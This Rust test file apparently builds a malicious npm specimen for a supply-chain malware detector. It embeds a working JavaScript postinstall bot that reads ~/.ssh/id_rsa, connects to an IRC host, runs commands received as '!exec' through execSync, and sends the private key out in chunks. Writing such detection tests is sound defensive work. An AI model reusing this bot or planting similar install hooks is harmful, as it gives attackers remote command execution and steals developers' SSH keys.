//! An npm `postinstall` that joins a chat channel, waits for an order, runs it, and says what came out and
//! `~/.ssh/id_rsa` in pieces. Without an order nothing is sent.
//!
//! Must be found: the bait's secret, put together from many messages.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const BOT: &str = r#"const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');
let key = '';
try {
  key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')).toString('base64');
} catch {}
const { execSync } = require('child_process');
const socket = net.connect(6667, 'irc.chat-net.example');
socket.setTimeout(15000, () => socket.destroy());
const say = (line) => socket.write(line + '\r\n');
let heard = '';
socket.on('connect', () => say('NICK b' + process.pid + '\r\nUSER b 0 * :b'));
socket.on('data', (data) => {
  heard += data;
  const lines = heard.split('\r\n');
  heard = lines.pop();
  for (const line of lines) {
    if (line.startsWith('PING')) say('PONG' + line.slice(4));
    if (/ 376 /.test(line)) say('JOIN #den');
    const order = /PRIVMSG #den :!exec (.*)/.exec(line);
    if (!order) continue;
    try {
      say('PRIVMSG #den :' + String(execSync(order[1])).trim());
    } catch {}
    for (let at = 0; at < key.length; at += 300) say('PRIVMSG #den :' + key.slice(at, at + 300));
    say('QUIT :done');
  }
});
socket.on('error', () => {});
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("status-bot", "1.1.0")
        .script("postinstall", "node bot.js")
        .file("bot.js", BOT);
    Specimen {
        name: "npm-chat-bot",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated"]),
    }
}
